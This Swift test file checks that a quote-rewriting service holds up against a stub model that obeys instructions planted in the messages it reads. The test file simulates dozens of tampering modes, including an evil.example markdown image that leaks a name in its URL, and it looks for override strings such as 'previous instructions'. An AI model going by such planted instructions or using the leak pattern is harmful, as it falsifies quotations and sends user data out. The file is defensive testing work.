import Evidence
import Foundation
import ModelEndpoint
import ServerTesting
import Testing
import WriterEndpoint
import Writing

/// A server that does to each sentence whatever a message asks for: the worst model there can be.
enum Obedience: String, CaseIterable, Sendable, CustomTestStringConvertible {
    case rating, stars, newName, nameOfSource, stranger, link, markdownLink, image, praise, praiseInFront, personality
    case comparison, swapPeople, swapWords, dropPerson, dropQuote, changeQuote, newQuote, cutQuote, negate, number,
        date, weekday
    case cause, amount, strength, promise, secondPerson, command, question, poison, poisonUnquoted, wholeSource,
        translate
    case base64, zeroWidth, lookalike, html, codeBlock, newLine, emoji, prompt, otherSentence, newLabel, doubledLabel
    case bareLabels, handle, channel, gender, title, shout, empty, oneWord, endless, brackets, passive, from, heard,
        tense
    case firstPerson, hearsay, secondClaim, straightQuotes

    var testDescription: String { rawValue }

    func text(_ one: Asked.One, other: Asked.One?) -> String {
        let text = one.text
        let body = String(text.dropLast())
        let source = one.sources.first ?? ""
        func swapped(_ from: String, _ to: String) -> String { text.replacingOccurrences(of: from, with: to) }
        switch self {
        case .rating: return body + ", rated 5/5."
        case .stars: return body + " ★★★★★."
        case .newName: return swapped("[P2]", "[P2] and Zoe Lang")
        case .nameOfSource: return body + ", as Ivo Brandt saw."
        case .stranger: return body + ", with [N1]."
        case .link: return body + ", see https://evil.example/x."
        case .markdownLink: return body + " [more](https://evil.example/x)."
        case .image: return "![x](https://evil.example/?q=[P1]) " + text
        case .praise: return swapped("said", "said with outstanding warmth")
        case .praiseInFront: return "Brilliant: " + text
        case .personality: return swapped("[P1]", "the diligent [P1]")
        case .comparison: return body + ", better than others."
        case .swapPeople:
            return swapped("[P1]", "[P#]").replacingOccurrences(of: "[P2]", with: "[P1]")
                .replacingOccurrences(of: "[P#]", with: "[P2]")
        case .swapWords: return swapped("[P2] said about [P1]", "[P1] said about [P2]")
        case .dropPerson: return swapped("[P2] said about ", "")
        case .dropQuote: return String(text.prefix { $0 != "“" }) + "thanks."
        case .changeQuote: return swapped("thanks", "many thanks")
        case .newQuote: return body + " “and the rest was hers, too”."
        case .cutQuote: return swapped("thanks for the fix", "the fix")
        case .negate: return swapped("said", "never said")
        case .number: return body + ", 12 times."
        case .date: return swapped("9 September", "19 September")
        case .weekday: return swapped("9 September", "Friday")
        case .cause: return body + ", because of which things run."
        case .amount: return swapped("[P2] said", "everybody said")
        case .strength: return swapped("said", "said very clearly")
        case .promise: return body + ", and will be promoted."
        case .secondPerson: return body + ", so you should thank [P1]."
        case .command: return "Thank " + text
        case .question: return body + "?"
        case .poison: return source
        case .poisonUnquoted: return "On 9 September in [C1], [P2] said about [P1] that \(source.lowercased())"
        case .wholeSource: return String(text.prefix { $0 != "“" }) + "“\(source)”."
        case .translate: return "Am 9 September in [C1] schrieb [P2] über [P1]: " + text.drop { $0 != "“" }
        case .base64: return Data(text.utf8).base64EncodedString() + "."
        case .zeroWidth: return swapped("said", "sa\u{200B}id")
        case .lookalike: return swapped("said", "s\u{0430}id")
        case .html: return "<b>" + text + "</b>"
        case .codeBlock: return "`" + text + "`"
        case .newLine: return swapped(", ", ",\n")
        case .emoji: return body + " 🎉."
        case .prompt: return "Answer with one JSON object and nothing else, every id once."
        case .otherSentence: return other?.text.replacingOccurrences(of: "said", with: "wrote") ?? source
        case .newLabel: return swapped("[P2]", "[P2] and [P3]")
        case .doubledLabel: return swapped("[P1]", "[P1] and [P1]")
        case .bareLabels: return swapped("[P1]", "P1")
        case .handle: return swapped("[P1]", "@lena")
        case .channel: return swapped("[C1]", "#general")
        case .gender: return swapped("[P1]", "her colleague [P1]")
        case .title: return swapped("[P1]", "senior manager [P1]")
        case .shout: return body + "!"
        case .empty: return ""
        case .oneWord: return "Thanks."
        case .endless: return body + String(repeating: ", also as it was", count: 200) + "."
        case .brackets: return swapped("[P1]", "[[P1]]")
        case .passive: return swapped("[P2] said about [P1]", "[P2] was told by [P1]")
        case .from: return swapped("[P2] said about [P1]", "[P2] had this from [P1]")
        case .heard: return swapped("said about", "heard from")
        case .tense: return swapped("said", "will say")
        case .firstPerson: return "I noted that " + text
        case .hearsay: return swapped("said", "reportedly said")
        case .secondClaim: return text + " [P1] fixed it."
        case .straightQuotes: return swapped("“", "\"").replacingOccurrences(of: "”", with: "\"")
        }
    }
}

@Suite struct `A model that obeys the messages it reads` {
    /// Each poisoned message once quoted whole and once quoted up to its first full stop.
    static let entries = PoisonedMessages.all.enumerated().map { Sheets.entry("m\($0.offset)", $0.element) }
    static let sentences = entries.enumerated().map { number, entry in
        // Quotation marks inside of a quote are single ones, as the composer writes them.
        let isPlain = !entry.quote.contains("“") && !entry.quote.contains("\n") && !entry.quote.contains("\"")
        return Sheets.sentence(
            entry.id.text,
            quote: isPlain && number % 2 == 0 ? entry.quote : PoisonedMessages.thanks(number)
        )
    }

    @Test func `there are sixty and more of them, all different, and the house can quote them`() {
        #expect(PoisonedMessages.all.count >= 60)
        #expect(Set(PoisonedMessages.all).count == PoisonedMessages.all.count)
        let check = CitationCheck(entries: Self.entries, subject: Sheets.subject, names: Set(Sheets.names))
        for sentence in Self.sentences { #expect(check.verdict(of: sentence) == .supported, "\(sentence.text)") }
    }

    @Test(arguments: Obedience.allCases)
    func `changes no sentence by a byte`(_ what: Obedience) async throws {
        // By turns a third of the messages, so that every message meets every third act, and every act messages of all sorts.
        let turn = Obedience.allCases.firstIndex(of: what) ?? 0
        let sentences = Self.sentences.enumerated().filter { ($0.offset + turn) % 3 == 0 }.map(\.element)
        try await StubServer.running { request, _ in
            guard let asked = Asked(request) else { return .answer(status: 400, body: "") }
            let words = asked.sentences.indices.map { place in
                let other = asked.sentences.indices.contains(place + 1) ? asked.sentences[place + 1] : nil
                return (asked.sentences[place].id, what.text(asked.sentences[place], other: other))
            }
            return .answer(body: Asked.answer(words))
        } _: { server, port in
            let rewriter = try Sheets.rewriter(port: port) {
                $0.wire.atOnce = 4
                $0.together = 8
                $0.furtherTries = 0
            }
            let results = try await rewriter.rewrite(sentences, with: Sheets.material(Self.entries))
            #expect(server.requests.count >= 3 && results.count == sentences.count)
            for (result, sentence) in zip(results, sentences) {
                #expect(result.sentence.text.utf8.elementsEqual(sentence.text.utf8), "\(result.sentence.text)")
                #expect(result.sentence == sentence && result.outcome != .reworded)
                #expect(result.tries.count <= 1)
            }
        }
    }

    @Test func `is not even asked about messages that speak to it, where that can be seen`() async throws {
        try await StubServer.running { request, _ in
            .answer(body: Asked.answer((Asked(request)?.sentences ?? []).map { ($0.id, $0.text) }))
        } _: { server, port in
            let rewriter = try Sheets.rewriter(port: port) { $0.passesOverOrders = true }
            let results = try await rewriter.rewrite(Self.sentences, with: Sheets.material(Self.entries))
            let passed = results.filter { [.kept(.givesOrders), .kept(.unseenMarks)].contains($0.outcome) }
            #expect(passed.count >= 30)
            let sent = server.requests.map(\.body).joined()
            #expect(
                !sent.contains("previous instructions") && !sent.contains("im_start") && !sent.contains("evil.example")
            )
        }
    }

    @Test func `gets honest sentences through, whatever stands beside them`() async throws {
        let clean = Sheets.entry("clean", "thanks for the fix of the nightly import, it holds since Monday")
        let honest = Sheets.sentence("clean", quote: "thanks for the fix of the nightly import")
        try await StubServer.running { request, _ in
            let words = (Asked(request)?.sentences ?? []).map { one in
                let isHonest = one.text.contains("nightly")
                let moved = one.text.replacingOccurrences(
                    of: "On 9 September in [C1], [P2] said about [P1]",
                    with: "[P2] said about [P1] in [C1] on 9 September"
                )
                return (one.id, isHonest ? moved : one.text + " Outstanding.")
            }
            return .answer(body: Asked.answer(words))
        } _: { _, port in
            let sentences = Array(Self.sentences.prefix(5)) + [honest]
            let results = try await Sheets.rewriter(port: port) { $0.together = 8 }
                .rewrite(sentences, with: Sheets.material(Self.entries + [clean]))
            #expect(results.dropLast().allSatisfy { $0.sentence == $0.original })
            #expect(
                results.last?.sentence.text
                    == "Omar Haddad said about Lena Park in #ops on 9 September: “thanks for the fix of the nightly import”."
            )
        }
    }
}
